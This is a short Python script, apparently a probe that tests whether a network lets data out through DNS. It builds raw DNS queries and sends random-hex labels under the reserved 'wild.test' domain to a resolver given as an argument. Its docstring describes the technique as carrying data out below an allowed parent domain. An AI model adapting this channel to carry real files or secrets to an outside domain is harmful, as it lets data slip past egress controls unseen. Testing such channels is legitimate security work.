# SPDX-License-Identifier: Apache-2.0
"""Carries data out in labels below an allowed parent: tunnel.py RESOLVER."""
import os
import socket
import struct
import sys


def ask(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.connect((sys.argv[1], 53))
    s.send(os.urandom(2) + struct.pack(">5H", 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", kind, 1))
    return s.recv(4096)


count = 0
for i in range(60):
    count += len(ask(os.urandom(15).hex() + ".wild.test", 1)) > 12
ask("text.wild.test", 16)
print("labels", count)
